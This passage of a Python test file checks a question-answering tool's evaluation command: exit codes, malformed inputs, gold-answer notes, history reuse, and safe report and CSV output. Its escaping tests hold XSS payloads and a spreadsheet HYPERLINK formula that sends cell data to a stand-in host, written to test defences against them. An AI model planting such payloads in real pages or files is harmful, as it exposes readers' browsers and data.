                       + "\n{broken\n", encoding="utf-8")
    seeds = tmp_path / "seeds"
    shutil.copytree(SEEDS, seeds)
    outputs = tmp_path / "out"
    code, stdout, stderr = _main(
        capsys, "eval", str(testset), "--seeds", str(seeds), "--index", str(tmp_path / "index"),
        "--model", "fake-hashing", "--json", "--out", str(outputs / "p.jsonl"), "--csv",
        str(outputs / "p.csv"), "--report", str(outputs / "r.md"), "--metrics-out",
        str(outputs / "m.json"))
    assert code == 1 and stdout == ""
    assert stderr.splitlines()[-1] == (f"qa: error: no question of {str(testset)!r} could be "
                                       "asked (3 skipped, 0 failed: see above)")
    assert not outputs.exists()  # nor the folder made for them


def test_a_run_in_which_questions_failed_exits_1_with_its_outputs_written(
        tmp_path: Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    """A question on which qa failed (an internal error, counted in `errors`) left the run's
    exit code 0, so a script or a CI step took a run with failures for a clean one. It now
    exits 1 after writing its outputs and printing its metrics, with one line saying how many
    failed; bad questions (`skipped`) still exit 0, as before."""
    monkeypatch.setenv("QA_SPACY", "none")
    monkeypatch.setattr(eval_report, "_save_plot", lambda path, draw: False)  # fast: no PNGs

    class Failing(Pipeline):
        def ask(self, question: str, *args: Any, **kwargs: Any) -> Answer:
            if question.startswith("Boom"):
                raise RuntimeError("kaput")
            return super().ask(question, *args, **kwargs)

    monkeypatch.setattr(evaluation, "Pipeline",
                        lambda s, embedder=None: Failing(s, embedder or HashingEmbedder()))
    rows = [{"id": "1", "question": "How many American troops are in Iraq today?",
             "answers": ["around 2,500"]},
            {"id": "2", "question": "Boom, who is the Pentagon spokesman?", "answers": []}]
    testset = _write_set(tmp_path, rows)
    seeds = tmp_path / "seeds"
    shutil.copytree(SEEDS, seeds)
    base = ["eval", str(testset), "--seeds", str(seeds), "--index", str(tmp_path / "index"),
            "--model", "fake-hashing"]
    code, stdout, stderr = _main(capsys, *base, "--json", "--metrics-out",
                                 str(tmp_path / "m.json"))
    assert code == 1, stderr
    metrics = json.loads(stdout)
    assert metrics["errors"] == 1 and metrics["questions"] == 1
    assert json.loads((tmp_path / "m.json").read_text(encoding="utf-8"))["errors"] == 1
    assert "line 2 (id '2'): internal error: RuntimeError: kaput" in stderr
    assert stderr.splitlines()[-1] == ("qa: error: 1 of 2 question(s) failed (see above); "
                                       "the metrics leave them out")

    testset.write_text(json.dumps(rows[0]) + "\n", encoding="utf-8")
    code, _, stderr = _main(capsys, *base)
    assert code == 0, stderr


def test_a_jsonl_gold_in_none_of_the_documents_is_noted(
        tmp_path: Path, fake_model: list[Settings], capsys: pytest.CaptureFixture[str]) -> None:
    """A JSON-lines gold answer no document holds was scored silently (no answer can match
    it); the run now says so, names the line, and still scores it."""
    rows = [{"id": "1", "question": "How many American troops are in Iraq today?",
             "answers": ["around 2,500", "around 2,600"]},
            {"id": "2", "question": "Who is the Pentagon spokesman?", "answers": ["john KIRBY"]}]
    testset = _write_set(tmp_path, rows)
    seeds = tmp_path / "seeds"
    shutil.copytree(SEEDS, seeds)
    code, stdout, stderr = _main(capsys, "eval", str(testset), "--seeds", str(seeds), "--index",
                                 str(tmp_path / "index"), "--model", "fake-hashing", "--json")
    assert code == 0, stderr
    notes = [line for line in stderr.splitlines() if "gold answer" in line]
    assert notes == [f"qa: eval: {testset}: line 1 (id '1'): gold answer 'around 2,600' is in "
                     "none of the documents (scored as given)"]
    assert json.loads(stdout)["questions"] == 2 and json.loads(stdout)["skipped"] == 0
    code, stdout, stderr = _main(capsys, "eval", str(testset), "--seeds", str(seeds), "--index",
                                 str(tmp_path / "index"), "--model", "fake-hashing", "--json",
                                 "--limit", "1")
    assert code == 0 and json.loads(stdout)["questions"] == 1  # only what it asks is kept
    for bad in ("0", "x"):
        with pytest.raises(SystemExit) as exit_info:
            cli.main(["eval", str(testset), "--limit", bad])
        assert exit_info.value.code == 2


def test_a_test_set_none_of_whose_golds_the_documents_hold_is_one_line(
        tmp_path: Path, fake_model: list[Settings], capsys: pytest.CaptureFixture[str]) -> None:
    """A JSON-lines test set run over the wrong documents (the default seeds, a mistyped
    --seeds): every gold answer got a note of its own (one stderr line each, thousands for a
    large set) and nothing said what they had in common. Where the documents hold not one
    gold answer, one line says so and names the folders, in place of the notes. The run goes
    on: a test set of free-form reference answers, never verbatim in any document, is still
    scored (its token F1); it was refused for a while, which no such set could pass."""
    rows = [{"id": f"q{n}", "question": f"Who keeps lighthouse number {n}?",
             "answers": [f"Keeper Zyxwvut{n}"]} for n in range(30)]
    rows.append({"id": "u", "question": "What is the capital of France?", "answers": []})
    testset = _write_set(tmp_path, rows)
    seeds = tmp_path / "seeds"
    shutil.copytree(SEEDS, seeds)
    out = tmp_path / "out" / "p.jsonl"
    base = ("eval", str(testset), "--seeds", str(seeds), "--index", str(tmp_path / "index"),
            "--model", "fake-hashing", "--json", "--out", str(out))
    code, stdout, stderr = _main(capsys, *base)
    assert code == 0 and json.loads(stdout)["questions"] == 31 and out.exists()
    assert "is in none of the documents" not in stderr  # no note per gold
    said = [line for line in stderr.splitlines() if "gold answer" in line]
    assert len(said) == 1 and said[0].startswith(
        f"qa: eval: {testset}: none of the 30 distinct gold answers is in the documents")
    assert str(seeds) in said[0] and "--seeds" in said[0]
    # where the documents hold one gold, the golds they do not hold get a note each
    testset.write_text("".join(json.dumps(r) + "\n" for r in rows[:3]) + json.dumps(
        {"id": "k", "question": "Who is the Pentagon spokesman?", "answers": ["John Kirby"]})
        + "\n", encoding="utf-8")
    code, stdout, stderr = _main(capsys, *base)
    assert code == 0 and json.loads(stdout)["questions"] == 4
    assert sum("is in none of the documents" in line for line in stderr.splitlines()) == 3


def test_a_test_set_of_many_bad_lines_lists_some_and_counts_the_rest(
        tmp_path: Path, fake_model: list[Settings], capsys: pytest.CaptureFixture[str]) -> None:
    """A test set in a shape qa does not read (here answers as objects) printed one stderr
    line per question, thousands for a large set, before its one-line error. The first
    MAX_SHOWN_PROBLEMS are listed; the rest are counted in one line that names the most
    common problems."""
    shown = evaluation.MAX_SHOWN_PROBLEMS
    rows = [{"id": f"q{n}", "question": f"Who keeps lighthouse number {n}?",
             "answers": {"text": ["Ada"]}, "source": "wiki"} for n in range(shown + 30)]
    rows += [{"id": f"d{n}", "question": "Who is it?", "answers": ["Ada"], "history": "x"}
             for n in range(5)]
    testset = _write_set(tmp_path, rows)
    code, stdout, stderr = _main(capsys, "eval", str(testset), "--seeds", str(SEEDS), "--index",
                                 str(tmp_path / "index"), "--model", "fake-hashing")
    lines = stderr.splitlines()
    assert code == 1 and stdout == ""
    listed = [line for line in lines if line.endswith("(skipped)")]
    assert len(listed) == shown and listed[0] == (
        f"qa: eval: {testset}: line 1: 'answers' must be a list of strings (skipped)")
    history = "'history' must be a list of questions or {\"question\", \"answer\"} objects"
    assert lines[shown] == (
        f"qa: eval: {testset}: 35 more bad question(s) not listed: 'answers' must be a list "
        f"of strings (30), {history} (5)")
    assert lines[-1] == f"qa: error: test set {str(testset)!r} holds no questions"
    assert len(lines) == shown + 3  # the count, the note on 'source' (not read), the error
    # questions refused when asked (content-free) are listed and counted the same way
    rows = [{"id": f"e{n}", "question": "?!", "answers": []} for n in range(shown + 5)]
    rows.append({"id": "k", "question": "Who is the Pentagon spokesman?",
                 "answers": ["John Kirby"]})
    testset = _write_set(tmp_path, rows)
    code, stdout, stderr = _main(capsys, "eval", str(testset), "--seeds", str(SEEDS), "--index",
                                 str(tmp_path / "index"), "--model", "fake-hashing", "--json")
    assert code == 0 and json.loads(stdout)["skipped"] == shown + 5
    lines = stderr.splitlines()
    assert sum(line.endswith("(skipped)") for line in lines) == shown
    assert re.fullmatch(rf"qa: eval: {re.escape(str(testset))}: 5 more bad question\(s\) not "
                        r"listed: [^,]+ \(5\)", lines[-1]), lines[-1]


def test_many_notes_are_listed_to_a_point_and_counted(
        tmp_path: Path, fake_model: list[Settings], capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    """Run over a folder that lacks some of its documents, a large test set printed a note
    for every gold answer those documents hold (thousands of lines): the first
    MAX_SHOWN_PROBLEMS notes are listed and the rest counted, as bad questions are."""
    monkeypatch.setattr(evaluation, "MAX_SHOWN_PROBLEMS", 5)
    rows = [{"id": f"q{n}", "question": f"Who keeps lighthouse number {n}?",
             "answers": [f"Keeper Zyxwvut{n}"]} for n in range(8)]
    rows.append({"id": "k", "question": "Who is the Pentagon spokesman?",
                 "answers": ["John Kirby"]})
    testset = _write_set(tmp_path, rows)
    code, _, stderr = _main(capsys, "eval", str(testset), "--seeds", str(SEEDS), "--index",
                            str(tmp_path / "index"), "--model", "fake-hashing", "--json")
    lines = stderr.splitlines()
    assert code == 0
    assert sum("is in none of the documents" in line for line in lines) == 5
    assert f"qa: eval: {testset}: 3 more note(s) not listed" in lines


class _Documents:
    """What `missing_golds` reads of an index: its document ids and their texts."""

    def __init__(self, texts: list[str]) -> None:
        self.texts = texts
        self.documents = {f"d{n}": None for n in range(len(texts))}

    def source(self, doc_id: str) -> str:
        return self.texts[int(doc_id[1:])]


def test_golds_in_no_document_are_found_with_bounded_work(monkeypatch: pytest.MonkeyPatch
                                                           ) -> None:
    """The note on golds no document holds searched every normalised document once per gold
    (corpus size x golds: minutes on a large corpus). Each distinct gold is now decided once,
    by the corpus's words where they suffice, else by one search of one normalised text, and
    the searches have a budget: what is left unchecked is counted in one note."""
    from qa.metrics import normalize_loose

    docs = _Documents(["The Pentagon said 2,500 troops stay.", "John Kirby spoke on Monday.",
                       "Operation \u201cInherent Resolve\u201d ends."])
    golds = ["2,500", "500", "troops stay", "Kirby", "Kirbby", "stay John", "said 2,500 troops",
             "said 2,501 troops", "inherent resolve", "Monday", "the Pentagon", "\u2014"]
    items = [Item(f"q{n}", "Q?", (g,)) for n, g in enumerate(golds)]
    items.append(Item("again", "Q?", ("Kirbby", "2,500")))

    def naive() -> list[str]:  # the rule as it was: a substring of a normalised document
        texts = [normalize_loose(t) for t in docs.texts]
        return [f"id {i.id!r}: gold answer {g!r} is in none of the documents (scored as given)"
                for i in items for g in i.answers
                if normalize_loose(g) and not any(normalize_loose(g) in t for t in texts)]

    notes = [str(p) for p in evaluation.missing_golds(items, docs)]  # type: ignore[arg-type]
    assert notes == naive() and len(notes) == 4  # Kirbby twice, stay John, 2,501
    real_search = evaluation._Corpus.search
    # with nothing to spend, only what the words decide is decided: 2500, kirby, monday and
    # pentagon are words of the text; "said 2501 troops" has an inner word no document has
    notes = [str(p) for p in evaluation.missing_golds(items, docs, budget=0, probes=0)]
    assert notes == [
        "id 'q7': gold answer 'said 2,501 troops' is in none of the documents (scored as given)",
        "gold answers: 6 of 11 distinct gold answer(s) were not looked for in the documents "
        f"({sum(len(normalize_loose(t)) for t in docs.texts):,} characters: too long "
        "to search for each)"]
    # the places of words decide the rest, with no search of the text
    monkeypatch.setattr(evaluation._Corpus, "search", lambda self, wanted, within: (
        pytest.fail(f"searched for {wanted!r}") if within is self.texts
        else real_search(self, wanted, within)))
    assert [str(p) for p in evaluation.missing_golds(items, docs)] == naive()
    # the same decisions as a search of each document, on random text and random golds
    import random

    monkeypatch.undo()
    rng = random.Random(7)
    vocabulary = ["ab", "abc", "b", "bc", "c", "ca", "the", "2,500", "x-y"]
    docs.texts = [" ".join(rng.choice(vocabulary) for _ in range(40)) for _ in range(5)]
    docs.documents = {f"d{n}": None for n in range(5)}
    items = [Item(f"r{n}", "Q?", (" ".join(rng.choice(vocabulary) for _ in
                                            range(rng.randint(1, 4)))[rng.randint(0, 1):],))
             for n in range(400)]
    for probes in (None, 0):  # by the places of words, or by a search
        notes = [str(p) for p in evaluation.missing_golds(items, docs, probes=probes)]
        assert notes == naive() and 20 < len(notes) < 380


def test_a_field_qa_does_not_read_is_noted_once_with_its_first_line(
        tmp_path: Path, fake_model: list[Settings], capsys: pytest.CaptureFixture[str]) -> None:
    """A misspelt "histroy" asked the follow-up without its history, silently."""
    rows = [{"id": "1", "question": "Who is the Pentagon spokesman?", "answers": ["John Kirby"]},
            {"id": "2", "question": "What did he say?", "answers": ["x"], "histroy": ["a"]},
            {"id": "3", "question": "Who is Kadhimi?", "answers": ["x"], "histroy": ["b"],
             "source": "me"}]
    testset = _write_set(tmp_path, rows)
    code, _, stderr = _main(capsys, "eval", str(testset), "--seeds", str(SEEDS), "--index",
                            str(tmp_path / "index"), "--model", "fake-hashing", "--json")
    assert code == 0, stderr
    notes = [line for line in stderr.splitlines() if "is not one qa reads" in line]
    assert notes == [
        f"qa: eval: {testset}: line 2: field 'histroy' (2 line(s)) is not one qa reads (it "
        "reads id, question, answers, history, kind, is_impossible, answerable): ignored",
        f"qa: eval: {testset}: line 3: field 'source' (1 line(s)) is not one qa reads (it "
        "reads id, question, answers, history, kind, is_impossible, answerable): ignored"]


def test_strict_reports_every_question_the_run_would_skip(
        tmp_path: Path, fake_model: list[Settings], capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    """--strict makes the run's own check (`BadQuestion`: blank after cleaning, content-free,
    a bad history turn) before the run: the same questions, the same count, exit 1."""
    monkeypatch.setattr(eval_report, "_save_plot", lambda path, draw: False)  # fast: no PNGs
    good = "How many American troops are in Iraq today?"
    rows = [{"id": "ok", "question": good, "answers": ["around 2,500"]},
            {"id": "zw", "question": "\u200b\u200b", "answers": []},
            {"id": "emoji", "question": "\U0001f600", "answers": []},
            {"id": "marks", "question": "?!", "answers": []},
            {"id": "turn", "question": good, "answers": [], "history": ["\u200b"]},
            {"id": "long", "question": "x" * (MAX_QUESTION_CHARS + 1), "answers": []}]
    testset = _write_set(tmp_path, rows)
    seeds = tmp_path / "seeds"
    shutil.copytree(SEEDS, seeds)
    base = ["eval", str(testset), "--seeds", str(seeds), "--index", str(tmp_path / "index"),
            "--model", "fake-hashing"]
    code, stdout, stderr = _main(capsys, *base, "--json")
    assert code == 0, stderr
    skipped = sorted(line.removesuffix(" (skipped)") for line in stderr.splitlines()
                     if line.endswith("(skipped)"))
    assert json.loads(stdout)["skipped"] == len(skipped) == 5
    assert any(s.endswith("line 5 (id 'turn'): history turn 1 is empty") for s in skipped)

    fake_model.clear()
    code, stdout, stderr = _main(capsys, *base, "--strict")
    assert code == 1 and stdout == ""
    reported = sorted(line for line in stderr.splitlines() if not line.startswith("qa: error"))
    assert reported == skipped
    assert "qa: error: 5 bad question(s)" in stderr
    assert fake_model == []  # before any model or index was made

    # the dense-only baseline skips the same questions, so both score the same set
    code, stdout, stderr = _main(capsys, *base, "--json", "--baseline")
    assert code == 0, stderr
    assert sorted(line.removesuffix(" (skipped)") for line in stderr.splitlines()
                  if line.endswith("(skipped)")) == skipped
    assert json.loads(stdout)["skipped"] == 5


def test_screen_uses_the_parse_as_ask_does() -> None:
    """Content-free by the parse ("a": no subject, no content word, no question word) is
    refused; a bare question word ("What?") is not, by the run or by the screen; nor is a
    line whose earlier turn asked nothing ("?"): ask reads its question on its own."""

    class Parse:
        name = "stub"

        def question(self, text: str) -> QuestionInfo:
            return QuestionInfo(text, (), "", (), (), False, False, False)

    items = [Item("1", "a", (), where="line 1"), Item("2", "What?", (), where="line 2"),
             Item("3", "Iraq troops?", (), ("?",), where="line 3")]
    assert [str(p) for p in evaluation.screen(items, Parse())] == [  # type: ignore[arg-type]
        "line 1 (id '1'): 'a' is not a question: ask about the documents in words"]


def test_output_paths_are_checked_before_the_model(
        tmp_path: Path, fake_model: list[Settings], capsys: pytest.CaptureFixture[str]) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("x", encoding="utf-8")
    cases = [
        (["--out", str(blocker / "p.jsonl")], "--out: cannot create the folder"),
        (["--csv", str(tmp_path)], "is a folder"),
        (["--report", str(tmp_path / "r.pdf")], "--report must end in .md or .html"),
        (["--out", str(tmp_path / "x"), "--csv", str(tmp_path / "x")], "same file"),
        (["--out", str(SMALL_SQUAD)], "names the test set"),
    ]
    for flags, message in cases:
        code, _, stderr = _main(capsys, "eval", str(SMALL_SQUAD), *flags)
        assert code == 2 and message in stderr and stderr.count("\n") == 1, (flags, stderr)
    assert fake_model == []
    assert SMALL_SQUAD.read_text(encoding="utf-8").startswith("{")


def test_a_failed_run_leaves_no_folder_it_made_for_its_outputs(
        tmp_path: Path, fake_model: list[Settings], capsys: pytest.CaptureFixture[str]) -> None:
    """`--out new/p.jsonl` makes `new/`; a run that then failed (a test set of no
    question, a bad --report name) removed its temporary files but left the folders it had
    made, empty. They go too; a folder that was there already stays."""
    empty = _squad(tmp_path, {"version": "v2.0", "data": [{"title": "T", "paragraphs": [
        {"context": "Cats purr.", "qas": [{"id": "1", "question": "What?", "answers": 5}]}]}]})
    made = tmp_path / "new"
    code, _, stderr = _main(capsys, "eval", str(empty), "--out", str(made / "a" / "p.jsonl"),
                            "--report", str(made / "b" / "r.md"), "--metrics-out",
                            str(tmp_path / "m.json"))
    assert code == 1 and "holds no questions" in stderr, stderr
    assert not made.exists() and sorted(p.name for p in tmp_path.iterdir()) == ["set.json"]
    code, _, stderr = _main(capsys, "eval", str(empty), "--out", str(made / "p.jsonl"),
                            "--report", str(tmp_path / "r" / "r.pdf"))
    assert code == 2 and "--report must end in" in stderr, stderr
    assert not made.exists() and not (tmp_path / "r").exists()
    kept = tmp_path / "kept"
    kept.mkdir()
    code, _, _ = _main(capsys, "eval", str(empty), "--out", str(kept / "x" / "p.jsonl"))
    assert code == 1 and kept.is_dir() and list(kept.iterdir()) == []
    assert fake_model == []


def test_malformed_files_are_one_line_errors(tmp_path: Path,
                                             capsys: pytest.CaptureFixture[str]) -> None:
    cases = [
        (_squad(tmp_path, "{not json", "a.json"), "is not valid JSON"),
        (_squad(tmp_path, {"version": "v2.0", "data": 3}, "b.json"), "'data' list of articles"),
        (_squad(tmp_path, {"data": [{"title": "T", "paragraphs": [{"qas": []}]}]}, "c.json"),
         "data[0].paragraphs[0]: a paragraph must be an object with a 'context' string"),
        (tmp_path / "missing.json", "does not exist"),
        (_squad(tmp_path, "", "empty.jsonl"), "holds no questions"),
        # an empty .json file was "not a SQuAD file: expected a JSON object ..."
        (_squad(tmp_path, " \n", "empty.json"), "holds no questions"),
        (_squad(tmp_path, "7", "seven.json"), "not a SQuAD file: expected a JSON object with "
         "a 'data' list of articles (or JSON lines, one question per line, or a JSON array "
         "of them)"),
        # these said what was wrong but not in which file
        (_squad(tmp_path, {"data": [{"title": "T", "paragraphs": []}]}, "d.json"),
         "the SQuAD file holds no paragraphs of text"),
        (_squad(tmp_path, {"data": []}, "e.json"), "holds no paragraphs of text"),
        (_squad(tmp_path, {"data": [{"paragraphs": [{"context": " "}]}]}, "f.txt"),
         "holds no paragraphs of text"),
    ]
    for path, message in cases:
        code, _, stderr = _main(capsys, "eval", str(path))
        assert code == 1 and message in stderr, stderr
        assert str(path) in stderr, stderr
        assert stderr.startswith("qa: error:") and stderr.count("\n") == 1


def test_deeply_nested_json_is_a_problem_not_an_internal_error(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """json.loads raises RecursionError (not ValueError) on deep nesting: a test set of
    100,000 brackets ended in "qa: internal error: RecursionError" (SQuAD and JSON lines)."""
    deep = "[" * 100_000 + "]" * 100_000
    good = json.dumps({"id": "ok", "question": "Who?", "answers": []})
    testset = load_testset(_squad(tmp_path, f"{good}\n{deep}\n", "deep.jsonl"))
    assert [str(p) for p in testset.problems] == ["line 2: not valid JSON (nested too deeply)"]
    assert [str(p) for p in load_testset(_squad(tmp_path, deep, "deep.txt")).problems] == [
        "line 1: not valid JSON (nested too deeply)"]
    code, _, stderr = _main(capsys, "eval", str(_squad(tmp_path, '{"data": ' + deep + "}",
                                                       "deep.json")))
    assert code == 1 and stderr == "qa: error: 'PATH' is not valid JSON (nested too deeply)\n" \
        .replace("PATH", str(tmp_path / "deep.json"))


@pytest.mark.slow  # (kept out of the fast tier: under 15 s)
def test_latency_times_the_question_not_the_replayed_conversation(
        fake_pipeline: Pipeline, monkeypatch: pytest.MonkeyPatch) -> None:
    """A follow-up's latency included replaying its history (one full ask per earlier turn),
    so conversations inflated latency_p95/max and the report's "warm ask, per question"
    histogram by a factor of the history's length."""
    import time

    def slow_ask(question: str, turns: Any = (), k: int = 5, *a: Any, **kw: Any) -> Answer:
        time.sleep(0.05)
        return Answer(question, "", True, 0.0, (), ())

    monkeypatch.setattr(fake_pipeline, "ask", slow_ask)
    item = Item("f", "What did he say then?", (), ("Who spoke?", "When?", "Where?", "Why?"))
    records: list[dict[str, Any]] = []
    metrics, _ = evaluation.evaluate(fake_pipeline, [item], sink=records.append)
    assert 50 <= records[0]["latency_ms"] < 150  # one ask, not five
    assert metrics["latency_max_ms"] < 150


def test_earlier_turns_the_run_already_asked_are_reused_not_asked_again(
        fake_pipeline: Pipeline, monkeypatch: pytest.MonkeyPatch) -> None:
    """A follow-up with N earlier turns asked each of them again (one ask per turn), even
    when the run had just asked the same turn as a question of the set or as another
    follow-up's turn. Those answers are now reused; the predictions are the same."""
    first = "Who is the Pentagon spokesman?"
    second = "What did he say about the advisers?"
    items = [Item("a", first, ("John Kirby",)),
             Item("b", second, (), (first,)),
             Item("c", "When did he say it?", (), (first, second)),
             Item("d", "And where?", (), (first, second))]

    def without_reuse(question: str, history: list[str], k: int) -> Answer:
        return fake_pipeline.ask(question, evaluation.replay(fake_pipeline, history, k), k)

    def strip(records: list[dict[str, Any]]) -> list[dict[str, Any]]:
        return [{k: v for k, v in r.items() if k != "latency_ms"} for r in records]

    expected: list[dict[str, Any]] = []
    evaluation.evaluate(fake_pipeline, items, asker=without_reuse, sink=expected.append)
    asked: list[tuple[str, int]] = []
    ask = fake_pipeline.ask

    def counting(question: str, turns: Any = (), k: Any = None, *a: Any) -> Answer:
        asked.append((question, len(turns)))
        return ask(question, turns, k, *a)

    monkeypatch.setattr(fake_pipeline, "ask", counting)
    records: list[dict[str, Any]] = []
    evaluation.evaluate(fake_pipeline, items, sink=records.append)
    assert strip(records) == strip(expected)
    # the warm-up, then each question once: "c" and "d" reuse "a" and "b" as their turns
    assert asked[1:] == [(first, 0), (second, 1), ("When did he say it?", 2), ("And where?", 2)]
    answered = evaluation.Answered(limit=2)
    for n in range(3):
        answered.put((str(n), (), 5), "x")
    assert answered.get(("0", (), 5)) is None and answered.get(("2", (), 5)) == "x"


def test_earlier_answers_the_test_set_gives_are_used_not_asked(
        fake_pipeline: Pipeline, monkeypatch: pytest.MonkeyPatch) -> None:
    """A follow-up's history could only hold questions, each asked again before it; a test
    set that knows the answers shown (a logged conversation) can now give them, as the HTTP
    API takes them: {"question", "answer"}. Such a turn is not asked; null means unknown."""
    from qa.types import Turn

    rows = [{"id": "f", "question": "What did he say?", "answers": [],
             "history": [{"question": "Who is the spokesman?", "answer": "John Kirby [1]"},
                         {"question": "And the minister?", "answer": None}, "Where?"]},
            # an answer that says nothing (a placeholder) is unknown too, so asked
            {"id": "p", "question": "What did he say?", "answers": [],
             "history": [{"question": "Who is the spokesman?", "answer": "..."},
                         {"question": "And the minister?", "answer": ""}]},
            {"id": "b1", "question": "Q?", "answers": [], "history": [{"question": 1}]},
            {"id": "b2", "question": "Q?", "answers": [], "history": [{"question": "Q",
                                                                        "answer": 3}]},
            {"id": "b3", "question": "Q?", "answers": [], "history": [{"question": "Q",
                                                                        "said": "x"}]},
            {"id": "b4", "question": "Q?", "answers": [], "history": "Who?"},
            {"id": "b5", "question": "Q?", "answers": [], "history": ["Who?"] * 21},
            {"id": "ok", "question": "Q?", "answers": [], "history": ["Who?"] * 20}]
    items, problems = parse_jsonl(json.dumps(r) for r in rows)
    assert items[0].history == (Turn("Who is the spokesman?", "John Kirby [1]"),
                                "And the minister?", "Where?")
    assert items[1].history == ("Who is the spokesman?", "And the minister?")
    assert [str(p) for p in problems] == [
        "line 3: 'history' must be a list of questions or {\"question\", \"answer\"} objects "
        "(turn 1 is not)",
        "line 4: 'history' turn 1: 'answer' must be a string or null",
        "line 5: 'history' must be a list of questions or {\"question\", \"answer\"} objects "
        "(turn 1 is not)",
        "line 6: 'history' must be a list of questions or {\"question\", \"answer\"} objects",
        "line 7: 'history' has 21 turns; at most 20 (as the HTTP API takes)"]
    assert [i.id for i in items] == ["f", "p", "ok"]
    items = items[:1]
    asked: list[tuple[str, tuple[Any, ...]]] = []

    def ask(question: str, turns: Any = (), k: Any = None, *a: Any) -> Answer:
        asked.append((question, tuple(turns)))
        return Answer(question, f"said of {question}", True, 0.0)

    monkeypatch.setattr(fake_pipeline, "ask", ask)
    evaluation.evaluate(fake_pipeline, items)
    given = Turn("Who is the spokesman?", "John Kirby [1]")
    minister = Turn("And the minister?", "said of And the minister?")
    assert asked[1:] == [("And the minister?", (given,)), ("Where?", (given, minister)),
                         ("What did he say?", (given, minister,
                                               Turn("Where?", "said of Where?")))]


def test_hit_at_n_beyond_the_passages_retrieved_is_undefined(fake_pipeline: Pipeline) -> None:
    """With -k 1 a run retrieves one passage, so hit@3 and hit@5 were hit@1 under other
    names (and compared as if measured); they are now null."""
    items = [Item("a", "How many American troops are in Iraq today?", ("2,500",))]
    metrics, _ = evaluation.evaluate(fake_pipeline, items, k=1)
    assert metrics["hit@1"] is not None and metrics["hit@3"] is None and metrics["hit@5"] is None
    assert evaluation.evaluate(fake_pipeline, items, k=5)[0]["hit@5"] is not None


def test_a_failing_question_is_reported_and_counted_not_fatal(fake_pipeline: Pipeline) -> None:
    items = [Item("a", "How many American troops are in Iraq today?", ("around 2,500",)),
             Item("b", "boom?", (), where="line 2"), Item("c", "  ", ())]

    def asker(question: str, history: list[str], k: int) -> Answer:
        if question == "boom?":
            raise RuntimeError("kaput")
        return fake_pipeline.ask(question, history, k)

    problems: list[Problem] = []
    records: list[dict[str, Any]] = []
    metrics, outcomes = evaluation.evaluate(fake_pipeline, items, asker=asker,
                                            sink=records.append, on_problem=problems.append)
    assert metrics["questions"] == 1 and metrics["errors"] == 1 and metrics["skipped"] == 1
    assert [str(p) for p in problems] == [
        "line 2 (id 'b'): internal error: RuntimeError: kaput",
        "id 'c': the question is empty"]
    assert [r["id"] for r in records] == ["a"] and len(outcomes) == 1


def test_report_escapes_everything_and_lists_every_miss(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(eval_report, "_save_plot", lambda path, draw: False)
    evil = "<script>alert(1)</script> | pipe"
    records = [
        {"id": "x<1>", "question": evil, "gold": ["<b>gold</b>"], "abstained": False,
         "answer": "<img src=x onerror=alert(1)>", "passages": [{"text": "<iframe>"}]},
        {"id": "ok", "question": "fine?", "gold": [], "abstained": True, "answer": "",
         "passages": []},
    ]
    predictions = tmp_path / "p.jsonl"
    predictions.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    scored = Scored(True, True, 0, 0.0, 0.1)
    outcomes = [
        evaluation.Outcome("tricky<kind>", True, False, 0.9, 12.0, None, False, False, False,
                           scored, 2, 2),
        evaluation.Outcome(None, False, True, 0.2, 30.0, None, False, False, False,
                           Scored(False, False, 1, 1.0, 0.8), 0, 0),
    ]
    metrics = {"exact": 50.0, "<odd>": 1}
    html_path, md_path = tmp_path / "r.html", tmp_path / "r.md"
    eval_report.write_report(html_path, metrics, outcomes, predictions, "Run <on> t&t")
    eval_report.write_report(md_path, metrics, outcomes, predictions, "Run <on> t&t")
    page = html_path.read_text(encoding="utf-8")
    for raw in ("<script>", "<img", "<iframe>", "<b>", "<odd>", "<on>", "tricky<kind>", "x<1>"):
        assert raw not in page and raw not in md_path.read_text(encoding="utf-8"), raw
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "Misses (1 of 2)" in page
    md = md_path.read_text(encoding="utf-8")
    assert "\\| pipe" in md and "| tricky&lt;kind&gt; | 1 |" in md and "| unanswerable | 1 |" in md


@pytest.mark.slow  # (kept out of the fast tier: under 15 s)
def test_the_report_is_written_as_it_is_read_not_held_whole(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The report listed every miss in memory and built the whole page as one string (a
    50,000-question run: 80 MB for a 17 MB report). It is now written as the predictions are
    read, atomically, with the same bytes."""
    import tracemalloc

    monkeypatch.setattr(eval_report, "_save_plot", lambda path, draw: False)
    predictions = tmp_path / "p.jsonl"
    outcomes = []
    with predictions.open("w", encoding="utf-8") as fh:
        for n in range(3000):
            outcomes.append(evaluation.Outcome(None, True, False, 0.5, 1.0, None, False, False,
                                               False, Scored(True, True, 0, 0.0, 0.5), 0, 0))
            fh.write(json.dumps({"id": str(n), "question": "Why? " * 20, "gold": ["g"],
                                 "abstained": False, "answer": "An answer. " * 30,
                                 "passages": [{"text": "A passage. " * 20}]}) + "\n")
    for name in ("r.md", "r.html"):
        report = tmp_path / name
        tracemalloc.start()
        try:
            eval_report.write_report(report, {"f1": 1.0}, outcomes, predictions, "t")
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
        size = report.stat().st_size
        assert size > 1_500_000 and peak < size / 3, (name, peak, size)
        text = report.read_text(encoding="utf-8")
        assert text.count("An answer.") == 3000 * 27  # each answer's first 300 characters
        assert ("## Misses (3000 of 3000)" in text) != ("<h2>Misses (3000 of 3000)</h2>" in text)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["p.jsonl", "r.html", "r.md"]


def test_csv_cells_that_a_spreadsheet_would_run_stay_text(tmp_path: Path) -> None:
    """A quoted document sentence or a question starting with "=" (or + - @ tab) was written
    to --csv as is, and a spreadsheet opening it runs it as a formula (CSV injection)."""
    evil = '=HYPERLINK("http://x.example/?"&A1,"see")'
    record = {"id": "@id", "question": "+1 or -1?", "gold": ["-5"], "answerable": True,
              "prediction": evil, "answer": f"{evil} [1]", "text": f"{evil} [1]",
              "lead": {"text": "-5 degrees"}, "abstained": False, "confidence": -0.5,
